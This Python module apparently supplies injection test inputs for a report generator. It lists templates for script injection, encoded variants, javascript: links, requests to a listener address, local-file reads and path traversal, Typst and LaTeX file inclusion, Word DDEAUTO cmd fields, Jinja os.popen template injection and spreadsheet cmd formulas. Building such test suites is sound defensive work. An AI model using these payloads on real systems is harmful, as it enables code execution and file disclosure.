"""What somebody could write to have a report run something, show a file or call somewhere: texts for every reader.

In them `{web}` is an address that listens, and `{file}` a file outside the project.
"""

from __future__ import annotations

from dataclasses import dataclass

RUN = "alert(document.title)"
"""Without digits, since a comment may hold no figure that has no source."""

TEMPLATES = (
    # Tags that end what they stand in, and run by themselves.
    "<script>{run}</script>",
    '"><script>{run}</script>',
    "'><img src=x onerror={run}>",
    '" onmouseover="{run}" autofocus onfocus="{run}" x="',
    "</title><script>{run}</script>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<!--<script>",
    "</td></table></main><svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "<img src=x:x onerror={run}>",
    "<video><source onerror={run}></video>",
    '<math><a xlink:href="javascript:{run}">x</a></math>',
    '<a href="javascript:{run}">x</a>',
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    # The same, in letters that mean others.
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "＜script＞{run}＜/script＞",
    "%3Cscript%3E{run}%3C/script%3E",
    # Links.
    "[x](javascript:{run})",
    "[x](JaVaScRiPt&colon;{run})",
    "[x](java%0ascript:{run})",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>{run}</script>)",
    "<javascript:{run}>",
    # Attributes of Pandoc's.
    '[x]{{onclick="{run}" style="background:url({web}/attribute)"}}',
    '`x`{{onclick="{run}"}}',
    "::: {{.figur onclick={run}}}",
    '`<img src="{web}/raw" onerror={run}>`{{=html}}',
    '```{{=html}} <img src="{web}/fence" onerror={run}> ```',
    # Something is fetched.
    '<img src="{web}/image">',
    '<img srcset="{web}/set">',
    '<link rel="stylesheet" href="{web}/style">',
    "<style>@import url({web}/import)</style>",
    '<p style="background:url({web}/background)">x</p>',
    '<meta http-equiv="refresh" content="url={web}/refresh">',
    '<base href="{web}/"><form action="{web}/form"><button autofocus>',
    '<object data="{web}/object"></object><embed src="{web}/embed">',
    "![x]({web}/markdown)",
    "![x](data:image/svg+xml,<svg onload={run}>)",
    # A file is read.
    '<img src="{file}">',
    '<img src="file://{file}">',
    '<link rel="stylesheet" href="{file}">',
    '<object data="{file}"></object>',
    '<iframe src="{file}"></iframe>',
    "<style>@import url({file})</style>",
    '<p style="background:url({file})">x</p>',
    "![x]({file})",
    "![x](file://{file})",
    "![x](../../../../../../../..{file})",
    "![[{file}]]",
    "[x]: {file}",
    "{{{{< include {file} >}}}}",
    "{{{{< embed {file} >}}}}",
    "!include {file}",
    # Typst.
    '#read("{file}")',
    '#image("{file}")',
    '#include "{file}"',
    '$#read("{file}")$',
    ']#read("{file}")[',
    '"); #read("{file}") //',
    '`#read("{file}")`{{=typst}}',
    '#eval("read(sys.inputs.x)") #panic("x")',
    '#import "@preview/x"',
    # Word.
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
    '{{ INCLUDETEXT "{file}" }}',
    '</w:t></w:r><w:fldSimple w:instr="DDEAUTO cmd"/><w:r><w:t>',
    '`<w:fldSimple w:instr="DDEAUTO cmd"/>`{{=openxml}}',
    # Templates and LaTeX.
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('cat {file}').read() }}}}",
    "{{% include '{file}' %}}",
    "$body$ $for(css)$ ${{x}} <%= x %>",
    "\\input{{{file}}} \\immediate\\write{{id}}",
    # Formulas of spreadsheets.
    "=cmd|'/C calc'!A",
    "+cmd|'/C calc'!A",
    "-cmd|'/C calc'!A",
    "@SUM(A:A)",
    '=HYPERLINK("{web}/formula")',
)
"""As `str.format` reads them, with `run`, `web` and `file`."""

FORMULAS = ("=", "+", "-", "@")
"""What begins a formula; such a text begins the cell that it is put in."""


@dataclass(frozen=True)
class Attack:
    """A text that is put where people write."""

    text: str

    def put_in(self, text: str) -> str:
        """Return a field's text with the attack behind it or, where only its beginning counts, before it."""
        return f"{self.text} {text}".strip() if self.text.startswith(FORMULAS) else f"{text} {self.text}".strip()


def attacks(web: str, file: str) -> list[Attack]:
    """Return all attacks."""
    return [Attack(text.format(run=RUN, web=web, file=file)) for text in TEMPLATES]
